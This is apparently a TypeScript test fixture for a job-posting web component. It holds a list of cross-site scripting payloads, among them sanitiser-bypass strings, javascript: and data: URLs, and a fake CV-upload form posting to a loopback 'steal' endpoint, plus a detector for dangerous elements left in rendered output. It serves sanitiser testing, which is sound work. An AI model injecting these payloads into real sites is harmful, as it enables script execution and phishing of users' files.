/**
 * Hostile text for every place that takes text. Each payload tries to run
 * `window.__xss = 1`, leave a dangerous element or URL behind, phish a CV or
 * cover the host page. Outside URLs point at a closed loopback port. Shared by
 * test/hostile.test.ts (the browser's sanitiser) and test/prerendered.test.ts
 * (the build's, in `job-posting render`); test/fixtures/cli/hostile.md holds them as a page.
 */

export const PAYLOADS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=1">',
  '<svg onload="window.__xss=1"><circle r="1"/></svg>',
  '<svg><script>window.__xss=1</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<template><script>window.__xss=1</script></template><template shadowrootmode="open"><img src=x onerror=window.__xss=1></template>',
  '<a href="javascript:window.__xss=1">click</a>',
  '<a href="JaVaScRiPt:window.__xss=1">click</a>',
  '<a href="&#106;avascript&#58;window.__xss=1">click</a>',
  '<a href=" java\tscript:window.__xss=1">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html,<script>window.__xss=1</script>">click</a>',
  '<img src="data:image/svg+xml,<svg onload=window.__xss=1>">',
  '<iframe src="javascript:window.__xss=1"></iframe><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:window.__xss=1"></object><embed src="javascript:window.__xss=1">',
  '<form action="http://127.0.0.1:9/steal"><input type="file" name="cv"><button>Upload your CV</button></form>',
  '<style>body{display:none}</style><link rel="stylesheet" href="http://127.0.0.1:9/x.css">',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">overlay</div>',
  '<base href="http://127.0.0.1:9/"><meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">',
  '<details open ontoggle="window.__xss=1"><summary>x</summary></details>',
  '"><img src=x onerror=window.__xss=1>',
  '[click](javascript:window.__xss=1) [click2](  JAVASCRIPT:window.__xss=1  )',
  '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==) ![i](javascript:window.__xss=1)',
  '<a href="java&#x09;script:window.__xss=1">tab</a><a href="&#x6A;avascript:window.__xss=1">hex</a>',
  'javascript:window.__xss=1',
  '\u0000\u0001 javascript:window.__xss=1',
];

const FORBIDDEN =
  'script, iframe, frame, object, embed, form, input, textarea, select, style, link, base, meta, svg, math, template, noscript, details:not(:has(> summary[part~="more"])), button:not([part~="pause"], [part~="calendar"], [part~="share"])';

/** What survives in a rendered card that should not. The styles a server renderer declares at a shadow root's top are the card's own. */
export function dangers(root: ShadowRoot | null | undefined): string[] {
  if (!root) return [];
  const found: string[] = [];
  for (const el of root.querySelectorAll('*')) {
    const own = el.localName === 'style' && el.parentNode === root;
    if (el.matches(FORBIDDEN) && !own) found.push(`<${el.localName}>`);
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) found.push(`${el.localName}[${attr.name}]`);
      if (attr.name === 'style') found.push(`${el.localName}[style]`);
      if ((attr.name === 'href' || attr.name === 'src') && !/^(?:https?:|mailto:)/i.test(attr.value)) {
        found.push(`${el.localName}[${attr.name}="${attr.value}"]`);
      }
    }
    if (el.localName === 'job-posting') found.push(...dangers(el.shadowRoot));
  }
  return found;
}
